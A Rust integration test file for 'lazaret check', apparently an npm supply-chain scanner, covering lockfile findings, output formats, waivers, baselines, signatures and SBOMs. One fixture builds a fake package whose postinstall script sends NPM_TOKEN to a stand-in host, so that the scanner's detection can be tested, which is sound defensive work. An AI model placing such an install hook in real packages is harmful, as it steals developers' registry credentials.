//! `lazaret check`: exit codes, formats, a base, waivers, a baseline.

use crate::harness::{Home, Said, malicious};
use lazaret_testing::{FakeNpm, Fault, Npm, Release};
use serde_json::{Value, json};
use std::path::Path;
use std::process::Command;

const SHA512: &str = "sha512-z4PhNX7vuL3xVChQ1m2AB9Yg5AULVxXcg/SpIdNs6c5H0NE8XYXysP+DGNKHfuwvY7kxvUdBeoGlODJ6+SfaPg==";

/// A package-lock with these packages, all asked for, each at its usual address.
pub(crate) fn lockfile(packages: &[(&str, &str)]) -> String {
    let mut entries = json!({});
    let mut asked = json!({});
    for (name, version) in packages {
        asked[name] = json!(format!("^{version}"));
        entries[format!("node_modules/{name}")] = json!({
            "version": version,
            "resolved": format!("https://registry.example/{name}/-/{name}-{version}.tgz"),
            "integrity": SHA512,
        });
    }
    entries[""] = json!({ "name": "ship", "dependencies": asked });
    let lock = json!({ "name": "ship", "lockfileVersion": 3, "packages": entries });
    format!("{}\n", serde_json::to_string_pretty(&lock).unwrap())
}

fn vulnerable(id: &str, package: &str, fixed: &str) -> String {
    json!({
        "schema_version": "1.7.5", "id": id, "modified": jiff::Timestamp::now().to_string(),
        "summary": "too much is believed", "aliases": ["CVE-2026-1"],
        "database_specific": { "severity": "HIGH" },
        "affected": [{ "package": { "ecosystem": "npm", "name": package },
            "ranges": [{ "type": "SEMVER", "events": [{ "introduced": "0" }, { "fixed": fixed }] }] }],
    })
    .to_string()
}

/// A home whose index knows two records.
pub(crate) fn home() -> Home {
    let home = Home::new();
    home.write(
        "osv/MAL-2026-1.json",
        malicious("MAL-2026-1", "anchor", &["1.0.1"]),
    );
    home.write(
        "osv/GHSA-aaaa-bbbb-cccc.json",
        vulnerable("GHSA-aaaa-bbbb-cccc", "boat", "2.0.0"),
    );
    let said = home.run(&["advisories", "import", "osv", "--data", "data"]);
    assert_eq!(said.code, Some(0), "{}", said.stderr);
    home
}

pub(crate) fn check(home: &Home, arguments: &[&str]) -> Said {
    let all: Vec<&str> = ["check", "--data", "data", "--offline"]
        .iter()
        .chain(arguments)
        .copied()
        .collect();
    // `git` is wherever the system keeps it.
    home.run_with(&all, &[("PATH", "/usr/local/bin:/usr/bin:/bin")])
}

fn last_line(said: &Said) -> &str {
    said.stdout.lines().last().unwrap_or_default()
}

pub(crate) fn git(folder: &Path, arguments: &[&str]) {
    let done = Command::new("git")
        .current_dir(folder)
        .args(["-c", "user.name=n", "-c", "user.email=e@code.invalid"])
        .args(arguments)
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .output()
        .unwrap();
    assert!(
        done.status.success(),
        "{}",
        String::from_utf8_lossy(&done.stderr)
    );
}

#[test]
fn a_clean_lockfile_ends_with_0() {
    let home = home();
    home.write("package-lock.json", lockfile(&[("anchor", "1.0.0")]));
    let said = check(&home, &[]);
    assert_eq!(said.code, Some(0), "{}{}", said.stdout, said.stderr);
    assert_eq!(
        last_line(&said),
        "integrity ok · malicious ok · vulnerabilities ok · changes not asked"
    );
    assert!(
        said.stdout
            .contains("package-lock.json: package-lock 3, 1 package")
    );
}

#[test]
fn a_malicious_version_ends_with_5_on_its_own_line() {
    let home = home();
    home.write(
        "package-lock.json",
        lockfile(&[("anchor", "1.0.1"), ("boat", "1.0.0")]),
    );
    let said = check(&home, &[]);
    assert_eq!(said.code, Some(5), "{}", said.stdout);
    insta::assert_snapshot!("check-malicious", said.stdout);
}

#[test]
fn every_machine_format_holds_the_same_findings() {
    let home = home();
    let bad =
        lockfile(&[("anchor", "1.0.1")]).replace("/anchor/-/anchor-1.0.1", "/other/-/other-9.9.9");
    home.write("package-lock.json", bad);
    let json: Value = serde_json::from_str(&check(&home, &["--format", "json"]).stdout).unwrap();
    assert_eq!(json["schema"], 1);
    assert_eq!(json["status"], "malicious");
    let mut rules: Vec<&str> = json["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|one| one["rule"].as_str().unwrap())
        .collect();
    rules.sort_unstable();
    assert_eq!(rules, ["malicious", "resolved-name"]);
    let sarif: Value = serde_json::from_str(&check(&home, &["--format", "sarif"]).stdout).unwrap();
    let results = sarif["runs"][0]["results"].as_array().unwrap();
    assert_eq!(results.len(), 2);
    let found = &json["findings"][0];
    let region = &results[0]["locations"][0]["physicalLocation"]["region"];
    assert_eq!(region["startLine"], found["line"]);
    let gitlab: Value =
        serde_json::from_str(&check(&home, &["--format", "gitlab"]).stdout).unwrap();
    assert_eq!(gitlab.as_array().unwrap().len(), 2);
    let github = check(&home, &["--format", "github"]).stdout;
    assert_eq!(
        github
            .lines()
            .filter(|line| line.starts_with("::error "))
            .count(),
        2,
        "{github}"
    );
    let junit = check(&home, &["--format", "junit"]).stdout;
    assert_eq!(junit.matches("<failure ").count(), 2, "{junit}");
    let markdown = check(&home, &["--format", "markdown"]).stdout;
    assert!(
        markdown
            .starts_with("<!-- lazaret check -->\n### ⛔ integrity FAILED 1 · malicious FAILED 1"),
        "{markdown}"
    );
    assert_eq!(check(&home, &["--exit-zero"]).code, Some(0));
}

#[test]
fn what_is_not_understood_never_passes() {
    let home = home();
    assert_eq!(check(&home, &[]).code, Some(3), "nothing to check");
    home.write(
        "a/package-lock.json",
        "{\"lockfileVersion\": 3, \"packages\": {\"\": {}, \"\": {}}}",
    );
    let said = check(&home, &[]);
    assert_eq!(said.code, Some(3), "{}", said.stdout);
    assert!(
        said.stdout.contains("a/package-lock.json:1:45"),
        "{}",
        said.stdout
    );
    home.write("package-lock.json", lockfile(&[("anchor", "1.0.0")]));
    let said = check(&home, &["--strict"]);
    assert_eq!(said.code, Some(4), "{}", said.stdout);
    assert_eq!(check(&home, &[]).code, Some(1));
    assert_eq!(check(&home, &["--exclude", "a", "--strict"]).code, Some(0));
    home.write("bun/bun.lockb", "x");
    let said = check(&home, &["bun/bun.lockb"]);
    assert_eq!(said.code, Some(3));
    assert!(
        said.stdout.contains("bun install --save-text-lockfile"),
        "{}",
        said.stdout
    );
    assert_eq!(check(&home, &["missing"]).code, Some(2));
}

#[test]
fn without_advisories_it_is_incomplete() {
    let home = Home::new();
    home.write("package-lock.json", lockfile(&[("anchor", "1.0.1")]));
    let said = check(&home, &[]);
    assert_eq!(said.code, Some(4), "{}", said.stdout);
    assert!(
        last_line(&said).contains("malicious NOT CHECKED"),
        "{}",
        said.stdout
    );
}

#[test]
fn advisories_older_than_somebody_allows_count_as_missing() {
    let home = Home::new();
    let now = jiff::Timestamp::now();
    let record = malicious("MAL-2026-1", "anchor", &["1.0.1"]);
    let mut record: Value = serde_json::from_str(&record).unwrap();
    record["modified"] = json!((now - jiff::SignedDuration::from_hours(48)).to_string());
    home.write("osv/MAL-2026-1.json", record.to_string());
    home.run(&["advisories", "import", "osv", "--data", "data"]);
    home.write("package-lock.json", lockfile(&[("anchor", "1.0.0")]));
    assert_eq!(check(&home, &[]).code, Some(0));
    let said = check(&home, &["--max-feed-age", "1"]);
    assert_eq!(said.code, Some(4), "{}", said.stdout);
    assert!(
        last_line(&said).contains("malicious NOT CHECKED"),
        "{}",
        said.stdout
    );
    assert!(said.stdout.contains("--max-feed-age 1"), "{}", said.stdout);
}

#[test]
fn only_what_a_change_brings_in_fails() {
    let home = home();
    let folder = home.path().to_owned();
    home.write(".gitignore", "osv\ndata\n");
    home.write("package-lock.json", lockfile(&[("boat", "1.0.0")]));
    git(&folder, &["init", "--quiet", "--initial-branch", "main"]);
    git(&folder, &["add", "."]);
    git(&folder, &["commit", "--quiet", "-m", "one"]);
    let said = check(&home, &["--base", "main"]);
    assert_eq!(said.code, Some(0), "it was there before: {}", said.stdout);
    assert_eq!(
        check(&home, &["--base", "main", "--severity", "high"]).code,
        Some(0),
        "nothing new"
    );
    assert_eq!(
        check(&home, &["--severity", "high"]).code,
        Some(1),
        "asked for by name"
    );
    home.write(
        "package-lock.json",
        lockfile(&[("boat", "1.1.0"), ("crane", "3.0.0")]),
    );
    let said = check(&home, &["--base", "main"]);
    assert_eq!(said.code, Some(1), "{}", said.stdout);
    insta::assert_snapshot!("check-base", said.stdout);
    assert_eq!(check(&home, &["--base", "nowhere"]).code, Some(2));
    assert_eq!(check(&home, &["--base", "--output=x"]).code, Some(2));
}

#[test]
fn a_waiver_and_a_baseline_let_known_findings_pass() {
    let home = home();
    let bad =
        lockfile(&[("crane", "3.0.0")]).replace("/crane/-/crane-3.0.0", "/other/-/other-3.0.0");
    home.write("package-lock.json", bad);
    assert_eq!(check(&home, &[]).code, Some(1));
    let waiver = "[[waive]]\nrule = \"resolved-name\"\npackage = \"crane@3\"\nreason = \"our fork\"\nuntil = 2999-12-31\n";
    home.write("lazaret-waivers.toml", waiver);
    let said = check(&home, &[]);
    assert_eq!(said.code, Some(0), "{}", said.stdout);
    assert!(
        last_line(&said).starts_with("integrity 1 (1 waived)"),
        "{}",
        said.stdout
    );
    home.write("lazaret-waivers.toml", waiver.replace("2999", "2001"));
    let said = check(&home, &[]);
    assert_eq!(said.code, Some(1));
    assert!(
        said.stderr.contains("ran out on 2001-12-31"),
        "{}",
        said.stderr
    );
    home.write("lazaret-waivers.toml", "[[waive]]\nrule = \"x\"\n");
    assert_eq!(check(&home, &[]).code, Some(2));
    std::fs::remove_file(home.path().join("lazaret-waivers.toml")).unwrap();
    assert_eq!(check(&home, &["--write-baseline"]).code, Some(0));
    assert_eq!(check(&home, &[]).code, Some(0));
    home.write("package-lock.json", lockfile(&[("crane", "3.0.0")]));
    let baseline = || std::fs::read_to_string(home.path().join("lazaret-baseline.json")).unwrap();
    let before = baseline();
    // Neither a look at a part nor one in CI takes anything out.
    check(&home, &["--prod"]);
    let offline = ["check", "--offline", "--data", "data"];
    let said = home.run_with(&offline, &[("CI", "true")]);
    assert!(
        said.stderr.contains("outside of CI takes them out of"),
        "{}",
        said.stderr
    );
    assert_eq!(baseline(), before);
    let said = check(&home, &[]);
    assert!(
        said.stderr
            .contains("1 finding of the baseline is gone, and taken out of"),
        "{}",
        said.stderr
    );
    assert!(!baseline().contains("resolved-name"), "{}", baseline());
    assert!(!check(&home, &[]).stderr.contains("baseline"));
}

#[test]
fn a_dry_run_tells_what_a_mirror_would_hold() {
    let home = home();
    home.write(
        "package-lock.json",
        lockfile(&[("anchor", "1.0.1"), ("crane", "3.0.0"), ("boat", "1.0.0")]),
    );
    home.write("lazaret.toml", "[policy]\nvulnerable = \"quarantine\"\n[[policy.deny]]\npackage = \"crane\"\nreason = \"we use winches\"\n");
    let said = check(&home, &["--policy-dry-run", "--config", "lazaret.toml"]);
    assert_eq!(said.code, Some(1), "{}{}", said.stdout, said.stderr);
    // The record is of today.
    let since = said.stdout.find("known since ").unwrap() + "known since ".len();
    let text = said
        .stdout
        .replace(&said.stdout[since..since + 10], "[today]");
    insta::assert_snapshot!("check-dry-run", text);
}

/// Two packages whose newer versions differ: one harmless, one that steals a token when it is installed.
pub(crate) fn registry() -> FakeNpm {
    let theft = "const https = require('https');\nhttps.get('https://collector.invalid/?t=' + process.env.NPM_TOKEN);\n";
    Npm::new()
        .package("rope", |package| {
            package
                .version("1.0.0", |release| {
                    release.file("index.js", "module.exports = 1\n")
                })
                .version("1.0.1", |release| {
                    release
                        .file("index.js", "module.exports = 1\n")
                        .script("postinstall", "node setup.js")
                        .file("setup.js", theft)
                })
        })
        .package("fibre", |package| {
            package
                .version("2.0.0", |release| {
                    release.file("index.js", "module.exports = 2\n")
                })
                .version("2.0.1", |release| {
                    release.file("index.js", "module.exports = 3\n")
                })
        })
        .start_blocking()
}

/// A lockfile with the registry's own checksums and addresses.
pub(crate) fn locked(npm: &FakeNpm, packages: &[(&str, &str)]) -> String {
    let mut text: Value = serde_json::from_str(&lockfile(packages)).unwrap();
    for (name, version) in packages {
        let entry = &mut text["packages"][format!("node_modules/{name}")];
        entry["integrity"] = json!(npm.integrity(name, version));
        entry["resolved"] = json!(format!("{}/{name}/-/{name}-{version}.tgz", npm.url()));
    }
    format!("{}\n", serde_json::to_string_pretty(&text).unwrap())
}

fn check_online(home: &Home, npm: &FakeNpm, arguments: &[&str]) -> Said {
    let url = npm.url();
    let first = ["check", "--data", "data", "--upstream", &url];
    let all: Vec<&str> = first.iter().chain(arguments).copied().collect();
    home.run_with(&all, &[("PATH", "/usr/local/bin:/usr/bin:/bin")])
}

#[test]
fn what_a_change_brings_in_is_inspected() {
    let (home, npm) = (home(), registry());
    home.write(
        "before.json",
        locked(&npm, &[("fibre", "2.0.0"), ("rope", "1.0.0")]),
    );
    home.write(
        "package-lock.json",
        locked(&npm, &[("fibre", "2.0.1"), ("rope", "1.0.0")]),
    );
    let base = ["package-lock.json", "--base-file", "before.json"];
    let said = check_online(&home, &npm, &base);
    assert_eq!(said.code, Some(0), "{}{}", said.stdout, said.stderr);
    assert!(
        said.stdout.ends_with("changes 1 to review\n"),
        "{}",
        said.stdout
    );
    home.write(
        "package-lock.json",
        locked(&npm, &[("fibre", "2.0.1"), ("rope", "1.0.1")]),
    );
    let said = check_online(&home, &npm, &base);
    assert_eq!(said.code, Some(1), "{}{}", said.stdout, said.stderr);
    assert!(
        said.stdout.contains(
            "error[behaviour]: rope@1.0.1, which replaces 1.0.0, would be blocked for what it does"
        ),
        "{}",
        said.stdout
    );
    let markdown = check_online(
        &home,
        &npm,
        &[&base[..], &["--format", "markdown"]].concat(),
    );
    assert!(
        markdown.stdout.contains("credential-exfiltration"),
        "{}",
        markdown.stdout
    );
    let json = check_online(&home, &npm, &[&base[..], &["--format", "json"]].concat());
    let json: Value = serde_json::from_str(&json.stdout).unwrap();
    assert_eq!(json["inspections"].as_array().unwrap().len(), 2);
    assert_eq!(json["status"], "failed");
    let integrity = npm.integrity("rope", "1.0.1");
    let review = format!(
        "[[review]]\npackage = \"rope@1.0.1\"\nintegrity = \"{integrity}\"\nfrom = \"1.0.0\"\nby = \"somebody\"\non = 2026-11-22\n"
    );
    home.write("lazaret-reviews.toml", &review);
    let said = check_online(&home, &npm, &base);
    assert!(!said.stdout.contains("error[behaviour]"), "{}", said.stdout);
    home.write("lazaret-reviews.toml", review.replace("1.0.0", "0.9.0"));
    assert_eq!(
        check_online(&home, &npm, &base).code,
        Some(1),
        "the review of another change"
    );
    std::fs::remove_file(home.path().join("lazaret-reviews.toml")).unwrap();
    npm.offline();
    let said = check_online(&home, &npm, &base);
    assert_eq!(said.code, Some(4), "nobody could be asked: {}", said.stdout);
}

#[test]
fn what_was_inspected_is_not_fetched_or_inspected_again() {
    let (home, npm) = (home(), registry());
    let before = locked(&npm, &[("fibre", "2.0.0"), ("rope", "1.0.0")]);
    let after = locked(&npm, &[("fibre", "2.0.1"), ("rope", "1.0.1")]);
    home.write("before.json", before);
    home.write("package-lock.json", after);
    let base = ["package-lock.json", "--base-file", "before.json"];
    let tarballs = || {
        let requests = npm.requests().into_iter();
        requests
            .filter(|request| request.path.ends_with(".tgz"))
            .count()
    };
    let first = check_online(&home, &npm, &base);
    assert_eq!(first.code, Some(1), "{}{}", first.stdout, first.stderr);
    assert_eq!(tarballs(), 4);
    let second = check_online(&home, &npm, &base);
    assert_eq!(
        second.stdout, first.stdout,
        "the same words about the same bytes"
    );
    assert_eq!(tarballs(), 4, "nothing was fetched again");
    // An entry that is damaged is none.
    for entry in std::fs::read_dir(home.path().join("data/cache/inspections")).unwrap() {
        std::fs::write(entry.unwrap().path(), "damaged").unwrap();
    }
    let third = check_online(&home, &npm, &base);
    assert_eq!(third.stdout, first.stdout);
    assert_eq!(tarballs(), 8);
}

#[test]
fn a_checksum_that_is_not_the_registrys_is_found() {
    let (home, npm) = (home(), registry());
    let honest = locked(&npm, &[("fibre", "2.0.0"), ("rope", "1.0.0")]);
    home.write("package-lock.json", &honest);
    let said = check_online(&home, &npm, &["--verify", "all"]);
    assert_eq!(said.code, Some(0), "{}{}", said.stdout, said.stderr);
    home.write(
        "package-lock.json",
        honest.replace(&npm.integrity("fibre", "2.0.0"), SHA512),
    );
    let said = check_online(&home, &npm, &["--verify", "all", "--format", "concise"]);
    assert_eq!(said.code, Some(1), "{}", said.stdout);
    assert!(
        said.stdout
            .contains("error checksum-differs: the checksum of fibre@2.0.0"),
        "{}",
        said.stdout
    );
    home.write("package-lock.json", locked_as(&honest, "9.9.9"));
    let said = check_online(&home, &npm, &["--verify", "all", "--format", "concise"]);
    assert!(
        said.stdout.contains("the registry has no fibre@9.9.9"),
        "{}",
        said.stdout
    );
}

/// As npm's registry signs: `name@version:integrity`, ECDSA over P-256, keys as SubjectPublicKeyInfo.
#[test]
fn a_signature_that_does_not_hold_is_found() {
    use aws_lc_rs::encoding::AsDer;
    use aws_lc_rs::rand::SystemRandom;
    use aws_lc_rs::signature::{ECDSA_P256_SHA256_ASN1_SIGNING, EcdsaKeyPair, KeyPair};
    use base64::Engine;
    use base64::engine::general_purpose::STANDARD;

    let pair = EcdsaKeyPair::generate(&ECDSA_P256_SHA256_ASN1_SIGNING).unwrap();
    let public = pair.public_key().as_der().unwrap();
    let key = |id: &str, expires: Value| {
        json!({ "keyid": id, "keytype": "ecdsa-sha2-nistp256", "scheme": "ecdsa-sha2-nistp256",
            "key": STANDARD.encode(public.as_ref()), "expires": expires })
    };
    let keys = json!({ "keys": [key("SHA256:now", Value::Null), key("SHA256:old", json!("2010-01-01T00:00:00.000Z"))] });
    let serve = |signatures: Value| {
        let fibre = |release: Release| {
            let release = release.file("index.js", "module.exports = 2\n");
            release.dist("signatures", signatures)
        };
        Npm::new()
            .keys(keys.clone())
            .package("fibre", |package| package.version("2.0.0", fibre))
            .start_blocking()
    };
    let integrity = serve(json!([])).integrity("fibre", "2.0.0");
    let signed = |id: &str, message: &str| {
        let signature = pair.sign(&SystemRandom::new(), message.as_bytes()).unwrap();
        json!([{ "keyid": id, "sig": STANDARD.encode(signature.as_ref()) }])
    };
    let verified = |npm: &FakeNpm| {
        let home = home();
        home.write("package-lock.json", locked(npm, &[("fibre", "2.0.0")]));
        check_online(&home, npm, &["--verify", "all", "--format", "concise"])
    };
    let message = format!("fibre@2.0.0:{integrity}");
    for (signatures, code, words) in [
        (json!([]), 0, "integrity ok"),
        (signed("SHA256:now", &message), 0, "integrity ok"),
        (
            signed("SHA256:now", &format!("fibre@2.0.1:{integrity}")),
            1,
            "error signature-differs: the registry's signature of fibre@2.0.0 is wrong",
        ),
        (
            json!("none"),
            1,
            "error signature-differs: the registry's signature of fibre@2.0.0 is wrong",
        ),
        (
            signed("SHA256:old", &message),
            1,
            "error signature-differs: fibre@2.0.0 is signed with SHA256:old, whose time was over",
        ),
        (
            signed("SHA256:other", &message),
            0,
            "warning signature-differs: fibre@2.0.0 is signed with SHA256:other, a key that the registry does not have",
        ),
    ] {
        let said = verified(&serve(signatures.clone()));
        assert_eq!(
            said.code,
            Some(code),
            "{signatures}: {}{}",
            said.stdout,
            said.stderr
        );
        assert!(said.stdout.contains(words), "{signatures}: {}", said.stdout);
    }
    let npm = serve(signed("SHA256:now", &message));
    npm.fault("/-/npm/v1/keys", Fault::garbage());
    let said = verified(&npm);
    assert_eq!(said.code, Some(4), "{}{}", said.stdout, said.stderr);
}

/// With another version of fibre.
fn locked_as(text: &str, version: &str) -> String {
    text.replace("2.0.0", version)
}

#[test]
fn a_dry_run_knows_ages_from_the_registry() {
    let (home, npm) = (home(), registry());
    npm.publish("fibre", "2.1.0", |release| {
        release.published(&jiff::Timestamp::now().to_string())
    });
    home.write(
        "package-lock.json",
        locked(&npm, &[("fibre", "2.1.0"), ("rope", "1.0.0")]),
    );
    let said = check_online(&home, &npm, &["--policy-dry-run"]);
    assert_eq!(said.code, Some(1), "{}{}", said.stdout, said.stderr);
    assert!(
        said.stdout.contains("quarantine fibre@2.1.0\n  cooldown: "),
        "{}",
        said.stdout
    );
    assert!(
        said.stdout.ends_with("would hold 1 of 2 entries\n"),
        "{}",
        said.stdout
    );
}

#[test]
fn half_a_result_is_not_taken_for_a_whole_one() {
    let home = home();
    home.write("package-lock.json", lockfile(&[("boat", "1.0.0")]));
    for (arguments, code) in [
        ("sbom --data data", 4),
        ("hygiene --offline --data data", 4),
        ("advisories status --data data", 4),
        ("indicators list --format json --data data", 4),
        ("explain weak-integrity", 4),
        ("check --offline --data data", 4),
        ("check --offline --format sarif --data data", 4),
        // What is malicious is never less than that.
        ("check --offline --data data", 5),
    ] {
        if code == 5 {
            home.write("package-lock.json", lockfile(&[("anchor", "1.0.1")]));
        }
        let arguments: Vec<&str> = arguments.split(' ').collect();
        let said = home.run_into("/dev/full", &arguments);
        assert_eq!(said.code, Some(code), "{arguments:?}: {}", said.stderr);
        assert!(
            said.stderr.contains("cannot write the result"),
            "{arguments:?}: {}",
            said.stderr
        );
    }
}

#[test]
fn a_bill_of_materials_has_what_is_known_and_decided() {
    let home = home();
    home.write(
        "package-lock.json",
        lockfile(&[("boat", "1.0.0"), ("crane", "3.0.0")]),
    );
    let sbom = |arguments: &[&str]| {
        let all: Vec<&str> = ["sbom", "--data", "data"]
            .iter()
            .chain(arguments)
            .copied()
            .collect();
        home.run(&all)
    };
    let said = sbom(&[]);
    assert_eq!(said.code, Some(0), "{}", said.stderr);
    let document: Value = serde_json::from_str(&said.stdout).unwrap();
    assert_eq!(document["bomFormat"], "CycloneDX");
    assert_eq!(document["components"].as_array().unwrap().len(), 2);
    assert_eq!(document["vulnerabilities"][0]["id"], "GHSA-aaaa-bbbb-cccc");
    assert_eq!(
        document["vulnerabilities"][0]["affects"][0]["ref"],
        "pkg:npm/boat@1.0.0"
    );
    assert_eq!(said.stdout, sbom(&[]).stdout, "the same bytes");
    home.write(
        "lazaret-waivers.toml",
        "[[waive]]\nid = \"CVE-2026-1\"\nreason = \"nothing of it is called\"\nforever = true\n",
    );
    let document: Value = serde_json::from_str(&sbom(&["package-lock.json"]).stdout).unwrap();
    assert_eq!(
        document["vulnerabilities"][0]["analysis"]["detail"],
        "nothing of it is called"
    );
    let spdx: Value = serde_json::from_str(&sbom(&["--format", "spdx"]).stdout).unwrap();
    assert_eq!(spdx["spdxVersion"], "SPDX-2.3");
    let installed =
        lockfile(&[("boat", "1.0.0")]).replace("    \"\": {", "    \"node_modules/x\": {");
    home.write("node_modules/.package-lock.json", installed);
    let document: Value = serde_json::from_str(&sbom(&["node_modules"]).stdout).unwrap();
    let names: Vec<&str> = document["components"]
        .as_array()
        .unwrap()
        .iter()
        .map(|one| one["name"].as_str().unwrap())
        .collect();
    assert!(names.contains(&"boat"), "{names:?}");
    std::fs::remove_file(home.path().join("package-lock.json")).unwrap();
    assert_eq!(sbom(&[]).code, Some(3));
}

/// What the action of GitHub runs, with the built program.
#[test]
fn the_action_tells_code_scanning_and_the_step() {
    let home = home();
    let bad =
        lockfile(&[("crane", "3.0.0")]).replace("/crane/-/crane-3.0.0", "/other/-/other-3.0.0");
    home.write("package-lock.json", bad);
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("../integrations/github/check.sh");
    let program = Path::new(env!("CARGO_BIN_EXE_lazaret")).parent().unwrap();
    let done = Command::new(script)
        .current_dir(home.path())
        .env_clear()
        .env("HOME", home.path())
        .env("LAZARET_DATA", home.path().join("data"))
        .env(
            "PATH",
            format!("{}:/usr/local/bin:/usr/bin:/bin", program.display()),
        )
        .env("LAZARET_PATHS", ".")
        .env("LAZARET_SARIF", "lazaret.sarif")
        .env("LAZARET_ARGUMENTS", "--offline")
        .env("GITHUB_OUTPUT", home.path().join("output"))
        .env("GITHUB_STEP_SUMMARY", home.path().join("summary.md"))
        .output()
        .unwrap();
    let said = String::from_utf8_lossy(&done.stdout);
    assert_eq!(
        done.status.code(),
        Some(1),
        "{said}{}",
        String::from_utf8_lossy(&done.stderr)
    );
    assert!(
        said.contains("::error file=package-lock.json,line="),
        "{said}"
    );
    let read = |name: &str| std::fs::read_to_string(home.path().join(name)).unwrap();
    assert_eq!(read("output"), "code=1\n");
    assert!(read("summary.md").contains("resolved-name"));
    let sarif: Value = serde_json::from_str(&read("lazaret.sarif")).unwrap();
    assert_eq!(sarif["runs"][0]["results"][0]["ruleId"], "resolved-name");
}

/// What the published schema does not allow. Only the words of it that this schema uses.
fn violations(schema: &Value, value: &Value, root: &Value, at: &str) -> Vec<String> {
    if let Some(name) = schema["$ref"].as_str() {
        let name = name.rsplit('/').next().unwrap();
        return violations(&root["$defs"][name], value, root, at);
    }
    let kind = match value {
        Value::Null => "null",
        Value::Bool(_) => "boolean",
        Value::Number(_) => "integer",
        Value::String(_) => "string",
        Value::Array(_) => "array",
        Value::Object(_) => "object",
    };
    let allows = |types: &Value| {
        types == kind
            || types
                .as_array()
                .is_some_and(|all| all.contains(&json!(kind)))
    };
    let mut found = Vec::new();
    if !schema["type"].is_null() && !allows(&schema["type"]) {
        found.push(format!("{at} is {kind}"));
    }
    if schema["enum"]
        .as_array()
        .is_some_and(|all| !all.contains(value))
    {
        found.push(format!("{at} is {value}"));
    }
    if !schema["const"].is_null() && schema["const"] != *value {
        found.push(format!("{at} is {value}"));
    }
    for key in schema["required"].as_array().into_iter().flatten() {
        if value.get(key.as_str().unwrap()).is_none() {
            found.push(format!("{at} has no {key}"));
        }
    }
    for (key, inner) in value.as_object().into_iter().flatten() {
        let at = format!("{at}.{key}");
        match (&schema["properties"][key], &schema["additionalProperties"]) {
            (Value::Null, Value::Bool(false)) => found.push(format!("{at} is not in the schema")),
            (Value::Null, Value::Null) => {}
            (Value::Null, other) => found.extend(violations(other, inner, root, &at)),
            (own, _) => found.extend(violations(own, inner, root, &at)),
        }
    }
    for (index, inner) in value.as_array().into_iter().flatten().enumerate() {
        if !schema["items"].is_null() {
            found.extend(violations(
                &schema["items"],
                inner,
                root,
                &format!("{at}[{index}]"),
            ));
        }
    }
    found
}

#[test]
fn json_is_what_the_published_schema_says() {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("../docs/reference/check.schema.json");
    let schema: Value = serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap();
    let home = home();
    home.write(
        "before.json",
        lockfile(&[("anchor", "1.0.0"), ("crane", "2.0.0")]),
    );
    home.write(
        "package-lock.json",
        lockfile(&[("anchor", "1.0.1"), ("boat", "1.0.0")]),
    );
    home.write(
        "lazaret-waivers.toml",
        "[[waive]]\nid = \"CVE-2026-1\"\nreason = \"not called\"\nuntil = 2999-01-01\n",
    );
    for arguments in [
        &[
            "package-lock.json",
            "--base-file",
            "before.json",
            "--severity",
            "low",
        ][..],
        &["--policy-dry-run"],
    ] {
        let said = check(&home, &[arguments, &["--format", "json"]].concat());
        let document: Value = serde_json::from_str(&said.stdout).unwrap();
        assert_eq!(
            violations(&schema, &document, &schema, "document"),
            Vec::<String>::new()
        );
    }
    let broken = json!({ "schema": 2, "status": "fine" });
    assert!(violations(&schema, &broken, &schema, "document").len() > 5);
}
